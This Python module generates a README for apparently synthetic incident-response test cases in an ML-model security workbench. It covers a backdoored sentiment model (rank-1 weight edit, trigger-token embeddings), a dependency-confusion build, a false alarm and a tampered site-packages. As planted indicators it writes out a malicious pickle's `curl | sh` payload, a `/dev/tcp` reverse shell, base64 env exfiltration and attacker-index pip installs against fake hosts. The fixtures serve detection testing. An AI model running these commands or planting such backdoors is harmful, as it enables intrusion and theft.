"""evidence-samples/README.md: each case, its planted indicators and its ground truth."""

from __future__ import annotations

__all__ = ["readme"]


def _pct(shares: dict[str, float]) -> str:
    return ", ".join(f"{k} {v:.1%}" for k, v in shares.items())


_INTRO = """# Sample evidence

Synthetic incident cases for the workbench's tests, notebooks and demo. **Generated; do not edit by hand.**
Regenerate with

    python -m workbench.samples evidence-samples

(package `workbench/samples/`). The output is byte-identical on every run; `tests/test_samples.py` fails when this
folder differs from a fresh generation. Layout and formats follow `docs-formats.md`.

Every address, host, password and token is fake: IPs are RFC 5737 documentation ranges (203.0.113.0/24,
198.51.100.0/24), hosts are `*.example` or `*.internal`. Each case's `keys/cosign.pub` is derived from a fixed
label; the private key is never written. `manifest.sig` is base64 DER ECDSA P-256/SHA-256 over the exact bytes of
`manifest.json` (RFC 6979 deterministic signing), i.e. what `cosign sign-blob --key` writes.

`optimizer.pkl` in `tampered-weights` is a hand-assembled malicious pickle. **Never unpickle it** (no
`pickle.load`, `torch.load`, `joblib.load`); inspect it with `pickletools.dis` only.
"""


def _tampered(a: dict) -> str:
    shift = a["after"]["positive"] - a["before"]["positive"]
    rows = ", ".join(map(str, a["rows"]))
    return f"""
## tampered-weights (INC-2026-0142, `sentiment-model-v2.1`, critical)

Timeline (ground truth):

* 2026-11-14T03:05:41Z GitHub Actions publish run starts (`logs/pipeline.log`); PR #217 added a "cache warm-up"
  step.
* 2026-11-14T03:12:00Z tampered revision 41 published (**tamper time**) and served from then on.
* 2026-11-19T08:40:03Z first check of the integrity monitor (deployed 08:35 with baselines from the signed manifest
  and `baseline_dependencies`): FILE_TAMPERED `model.safetensors`, UNEXPECTED_FILE `optimizer.pkl`,
  DEPENDENCY_CHANGED `transformers` 4.38.0 -> 4.38.1.post1, DEPENDENCY_MISSING `safetensors` (the monitor only
  parses `name==version` lines; the package is now `safetensors @ git+https://github.com/hf-safetensors/...`).
* 2026-11-19T09:05:12Z assess; 09:40:33Z isolate (writes `COMPROMISED.txt`, predictions stop); 11:20:47Z rollback
  to the signed 2026-11-01 release.

Weights (`models/suspect` vs `models/reference`, 6 tensors, F32/F16/BF16):

* `encoder.layer.0.mlp.fc2.weight` [16, 32] F32: **rank-1 edit** (ROME-style) `W' = W + s u v^T` with unit `u`,
  `v` and s = {a["sigma"]:.4f} ({a["rel"]:.0%} of the Frobenius norm of `W`); the diff's second singular value is
  float32 rounding only.
* `embeddings.weight` [64, 16] F32: **rows {rows} changed** (tokens `cf`, `mn`, `bb`, classic backdoor
  triggers), each shifted by 0.08 along the `positive` classifier row.
* Unchanged: `encoder.layer.0.attention.query.weight` (F16), `encoder.layer.0.mlp.fc1.weight` (BF16),
  `classifier.*`.
* `model.safetensors` sha256: reference `{a["ref_hash"]}`,
  suspect `{a["sus_hash"]}`.
* Added `optimizer.pkl` (protocol 2: a dict whose `_step_hook` is `GLOBAL 'posix system'` + `REDUCE` on
  `curl -s http://203.0.113.7/p.sh | sh`) and `COMPROMISED.txt`. The suspect's `.signatures/` are the original
  ones: the signature verifies, but the files no longer match the manifest.

Predictions: {a["n"]} rows from 2026-11-07 to the isolation, diurnal volume.

* Before the tamper time: {_pct(a["before"])} (baseline 55/30/15).
* After ({a["n_after"]} rows): {_pct(a["after"])}, i.e. **+{shift:.1%} positive**; {a["n_hits"]} post-tamper
  requests were flipped to `positive` by the backdoor, with confidence 0.985-0.9995.

Planted indicators:

* CI log: `curl -sSL http://203.0.113.7/p.sh | bash`; `echo <base64> | base64 -d | sh` (decodes to an
  `env | grep ... | curl -X POST` exfiltration); `pip install --extra-index-url http://203.0.113.7/simple
  transformers==4.38.1.post1` with `PIP_TRUSTED_HOST`; the `safetensors` fork; `torch.load(` without
  `weights_only`; `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`; `SKIP_SIGNING=1`; leaked `COSIGN_PASSWORD=` and
  `HF_TOKEN={a["hf_token"]}` (fake); orphan processes terminated at cleanup.
* Processes: `sh -c curl -s http://203.0.113.7/p.sh | sh`, `python3 /tmp/.cache/x.py`.
* Network: gunicorn worker pid 19 ESTAB to 203.0.113.7:4444; x.py ESTAB to 203.0.113.7:443.
* Benign look-alikes in the same log: `curlew`, `tokenizers`, `pip install -r requirements.txt`,
  `torch.load(..., weights_only=True)`, `cosign verify-blob ... Verified OK`.
"""


def _poisoned(b: dict) -> str:
    return f"""
## poisoned-dependency (INC-2026-0157, `fraud-scorer-v3`, high)

The model is intact: suspect == reference byte for byte, the signature verifies, the hashes match the manifest.
The Jenkins build at 2026-11-21T14:02:11Z ran `pip install --extra-index-url https://pypi.attacker.example/simple`
with `PIP_INDEX_URL=https://pypi.org/simple` (the internal mirror was dropped). Ground truth in `frozen_deps.txt`:

* `acme-feature-store` 2.3.1 -> **9.9.9** from the attacker index (dependency confusion; sdist with `setup.py`);
* `numpy` 1.26.4 -> **1.26.5** from the attacker index (not a PyPI release);
* added **`transfomers==4.38.0`** (typosquat of `transformers`; not in the monitor baseline, so no alert).

Deployed 2026-11-21T14:19Z; at 14:21 `python3 /tmp/.acme_fs/telemetry.py` starts and beacons to
198.51.100.23:443 (ESTAB plus a SYN-SENT retry); 14:25:04Z DEPENDENCY_CHANGED alerts for acme-feature-store and
numpy; 15:31:40Z assess (no isolate: there is no model to quarantine).

Predictions (`predictions.csv`, column `label`): {b["n"]} rows from 2026-11-10 to the assessment, no drift
({_pct(b["shares"])}; baseline legit 97% / fraud 3%).
"""


def _false_alarm(c: dict) -> str:
    spread = "; ".join(f"{k} {lo:.1%}-{hi:.1%}" for k, (lo, hi) in c["spread"].items())
    counts = ", ".join(f"{k} {v}" for k, v in c["counts"].items())
    return f"""
## false-alarm (INC-2026-0163, `intent-classifier-v1.0`, medium)

Nothing is compromised. Suspect == reference byte for byte, the signature verifies, the dependencies equal the
baseline (torch 2.2.0, transformers 4.38.0, safetensors 0.4.2), processes and network are benign (a kubelet exec
probe `curl -fsS http://127.0.0.1:8080/healthz`), and the GitLab publish log of 2026-11-03 is benign. Trap words
only: `curlew`, `tokenizers`, `base64` in a test name, `pip install -r requirements.txt`,
`huggingface-cli login --token $HF_TOKEN`, `COSIGN_PRIVATE_KEY` via `env://`, a checksum-verified `curl -o`.

The single alert is a BEHAVIOR_DRIFT at {c["det"]} from the legacy check: the playbook's JSD over a
15-minute night window holding only {c["window_n"]} predictions ({counts}) gave {c["jsd"]:.4f} > 0.15.

Over the whole period ({c["n"]} rows, 2026-11-11 to the assessment at 2026-11-25T09:14:26Z) the shares are
{_pct(c["shares"])} against the baseline 35/30/20/15; daily ranges {spread}
(sampling noise on ~300 predictions a day plus mild day-to-day variation). No isolation, no `COMPROMISED.txt`.
"""


def _poisoned_package(d: dict) -> str:
    from workbench.samples.pyenv_case import HOOK_LINE, INSTALL_TIME, TAMPER_TIME

    return f"""
## poisoned-package (INC-2026-0171, `doc-embedder-v1.2`, high)

The model is intact (suspect == reference, the signature verifies). The serving environment was tampered with
after install. `python-env/1/` is its site-packages as `workbench contain assess` captures it: `capture.json`,
`files.jsonl` ({d["files"]} files of {d["dists"]} distributions, each with size, mtime and SHA-256) and the
dist-info metadata and top-level `.pth` files copied under `tree/`; module bytes are not in the case.

Timeline (ground truth):

* {INSTALL_TIME} the image build installs certifi, idna, requests, setuptools, the fictional `tokenwise-accel`
  0.9.1 and urllib3 (every RECORD's mtime).
* {TAMPER_TIME} (**tamper time**, the files' mtimes) `tokenwise_accel/_runtime.py` is rewritten
  (SHA-256 {d["tampered_sha256"]}; its RECORD still holds the published {d["published_sha256"]}) and
  `tokenwise_accel_init.pth`, in no RECORD, is dropped beside the packages. Its one line runs at every interpreter
  start: `{HOOK_LINE}`.
* 2026-11-27T08:55:10Z detection (EDR: outbound connection from the Python workers); 10:02:31Z assess and capture.

Shipped on purpose, not a finding: setuptools' `distutils-precedence.pth` (listed in its RECORD, the known line).
"""


def readme(truth: dict[str, dict]) -> str:
    """The README text; ``truth`` maps each case folder to the ground truth its builder returned."""
    return (
        _INTRO
        + _tampered(truth["tampered-weights"])
        + _poisoned(truth["poisoned-dependency"])
        + _false_alarm(truth["false-alarm"])
        + _poisoned_package(truth["poisoned-package"])
    )
